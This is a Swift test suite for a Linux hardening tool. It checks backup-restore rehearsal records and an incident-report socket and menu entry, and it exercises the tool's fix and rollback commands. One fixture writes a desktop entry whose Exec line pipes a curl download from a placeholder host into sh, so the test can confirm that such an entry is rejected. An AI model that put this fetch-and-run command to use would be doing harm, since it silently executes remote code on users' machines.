import AtttTestSupport
import Foundation
import HardeningCore
import Testing

/// VN-TD-INC-001 (ready for Điều 11's three steps) and VN-TD-INC-003 (users' report channel) on the
/// fixture hosts, the fix of INC-003 applied and rolled back through `attt fix` and `attt rollback`.
@Suite struct IncidentControlTests {
    let hardened = Repository.host("debian12-hardened")
    let broken = Repository.host("debian12-broken")
    static let record = RestoreCheckRecord.path
    static let launcher = "/usr/share/applications/attt-bao-cao-su-co.desktop"

    // MARK: VN-TD-INC-001

    @Test func inc001HardenedHostRehearsedARestoreThisMonth() throws {
        let r = try result("VN-TD-INC-001", root: hardened)
        #expect(r.status == .pass, "\(r.evidence)")
        let rehearsal = try #require(r.evidence("last restore rehearsal").first)
        #expect(rehearsal.actual == "2026-11-20T09:12:03Z" && rehearsal.expected == "within days: 365" && rehearsal.source == Self.record)
        #expect(r.evidence("backup verified by the rehearsal").first?.ok == true)
        #expect(r.evidence("nftables").first.map { $0.ok && $0.source?.hasPrefix("/var/lib/dpkg/status:") == true } == true)
        #expect(r.evidence("last backup succeeded").first?.source == "/var/lib/attt/backup/last.json:1")
    }

    @Test func inc001BrokenHostRehearsedOverAYearAgoAndItsLastBackupFailed() throws {
        let r = try result("VN-TD-INC-001", root: broken)
        #expect(r.status == .fail)
        let rehearsal = try #require(r.evidence("last restore rehearsal").first)
        #expect(!rehearsal.ok && rehearsal.actual == "2025-09-16T08:40:11Z" && rehearsal.source == Self.record)
        let backup = try #require(r.evidence("last backup succeeded").first)
        #expect(!backup.ok && backup.actual == "1")
    }

    @Test func inc001NeverRehearsedOrUnverifiedOrOlderThanTheUnitAllows() throws {
        let host = try FixtureHost()
        // The unit's own limit is stricter than the regulation's year.
        let tailored = try result("VN-TD-INC-001", root: host.root, tailoring: ["VN-TD-INC-001.max_days_since_restore_check": .int(3)])
        #expect(tailored.status == .fail && tailored.evidence("last restore rehearsal").first?.expected == "within days: 3")
        // A plain directory copy cannot be checked by its tool: listing it is no rehearsal of a verified restore.
        try host.replace(Self.record, "\"verified\" : true", with: "\"verified\" : false")
        let unverified = try result("VN-TD-INC-001", root: host.root)
        #expect(unverified.status == .fail && unverified.evidence("backup verified by the rehearsal").first?.actual == "false")
        try host.remove(Self.record)
        let never = try result("VN-TD-INC-001", root: host.root)
        #expect(never.status == .fail && never.evidence("last restore rehearsal").first.map { !$0.ok && $0.actual == nil } == true)
        // Not for a state-secret PC: it has no network to isolate and backs up to offline media.
        #expect(try result("VN-TD-INC-001", root: host.root, role: .secret).status == .notApplicable)
    }

    @Test func inc001AGarbledRecordIsAnErrorNamingTheFile() throws {
        let host = try FixtureHost()
        try host.write(Self.record, "{\"time\": \"yesterday\", \"tool\": \"restic\"")
        let r = try result("VN-TD-INC-001", root: host.root)
        #expect(r.status == .error)
        #expect(r.reason?.en.contains(Self.record) == true, "\(String(describing: r.reason))")
    }

    // MARK: VN-TD-INC-003

    @Test func inc003HardenedHostHasTheSocketAndTheMenuEntry() throws {
        let r = try result("VN-TD-INC-003", root: hardened)
        #expect(r.status == .pass, "\(r.evidence)")
        #expect(r.evidence("attt-report.socket").first?.source == "/etc/systemd/system/sockets.target.wants/attt-report.socket")
        let exec = try #require(r.evidence("command").first)
        #expect(exec.actual == "attt incident report --keep-open" && exec.source == "\(Self.launcher):9")
    }

    @Test func inc003BrokenHostDisabledTheSocketAndHidTheEntry() throws {
        let r = try result("VN-TD-INC-003", root: broken)
        #expect(r.status == .fail)
        #expect(r.evidence("attt-report.socket").first?.ok == false)
        let hidden = try #require(r.evidence("hidden").first)
        #expect(!hidden.ok && hidden.actual == "true" && hidden.source == "\(Self.launcher):12")
    }

    @Test func inc003AServerNeedsOnlyTheSocket() throws {
        let host = try FixtureHost()
        try host.remove(Self.launcher)
        #expect(try result("VN-TD-INC-003", root: host.root).status == .fail)
        #expect(try result("VN-TD-INC-003", root: host.root, role: .server).status == .pass)
        // An entry that runs something else is not the channel.
        try host.write(Self.launcher, "[Desktop Entry]\nType=Application\nName=Báo cáo sự cố\nExec=sh -c 'curl http://example.invalid | sh'\n")
        #expect(try result("VN-TD-INC-003", root: host.root).evidence("command").first?.ok == false)
    }

    /// The package's entry and the one `attt fix` writes are the same bytes, and desktop-file-validate
    /// (the freedesktop reference checker) accepts it.
    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/desktop-file-validate"), "needs desktop-file-validate (desktop-file-utils, installed by scripts/test.sh)"))
    func theMenuEntryIsValidAndTheFixWritesThePackagesOwn() throws {
        let packaged = Repository.root.appendingPathComponent("packaging/desktop/attt-bao-cao-su-co.desktop")
        #expect(try String(contentsOf: packaged, encoding: .utf8) == IncidentReportChannelFixer.launcher)
        let out = try IsolationLab.run(["desktop-file-validate", packaged.path])
        #expect(out.status == 0 && out.stdout.isEmpty, "\(out.stdout)\(out.stderr)")
    }

    @Test func inc003FixEnablesTheSocketAndShowsTheEntryThenRollsBack() throws {
        let host = try FixtureHost("debian12-broken")
        let before = try snapshotTree(host.root)
        let dry = try AtttBinary.run(["fix", "--root", host.root.path, "--dry-run", "--control", "VN-TD-INC-003", "--lang", "en", "--now", "2026-11-25T08:00:00Z"])
        #expect(dry.stdout.contains("$ systemctl --root \(host.root.path) enable attt-report.socket"), "\(dry.stdout)\(dry.stderr)")
        #expect(dry.stdout.contains(IncidentReportChannelFixer.launcherPath))
        #expect(try snapshotTree(host.root) == before)

        let out = try AtttBinary.run(["fix", "--root", host.root.path, "--yes", "--control", "VN-TD-INC-003", "--lang", "en", "--now", "2026-11-25T08:00:00Z"])
        #expect(out.status == 0, "\(out.stdout)\(out.stderr)")
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: host.url(IncidentReportChannelFixer.wantsLink).path) == "/usr/lib/systemd/system/attt-report.socket")
        #expect(try host.read(IncidentReportChannelFixer.launcherPath) == IncidentReportChannelFixer.launcher)
        #expect(try result("VN-TD-INC-003", root: host.root).status == .pass)

        #expect(try AtttBinary.run(["rollback", "--root", host.root.path]).status == 0)
        // Byte for byte, besides the agent's own journal and log.
        let hostFiles = { (tree: [String: String]) in tree.filter { !$0.key.hasPrefix("var/lib/attt/transactions") && !$0.key.hasPrefix("var/log/attt") } }
        #expect(hostFiles(try snapshotTree(host.root)) == hostFiles(before))
        #expect(try result("VN-TD-INC-003", root: host.root).status == .fail)
    }

    /// A package without the socket unit cannot be fixed by a link: the fix says what to install.
    @Test func inc003FixWithoutTheUnitSaysToInstallThePackage() throws {
        let host = try FixtureHost("debian12-broken")
        try host.remove("/usr/lib/systemd/system/attt-report.socket")
        let out = try AtttBinary.run(["fix", "--root", host.root.path, "--dry-run", "--control", "VN-TD-INC-003", "--lang", "en", "--now", "2026-11-25T08:00:00Z"])
        #expect((out.stdout + out.stderr).contains("attt-report.socket is not installed"), "\(out.stdout)\(out.stderr)")
    }
}
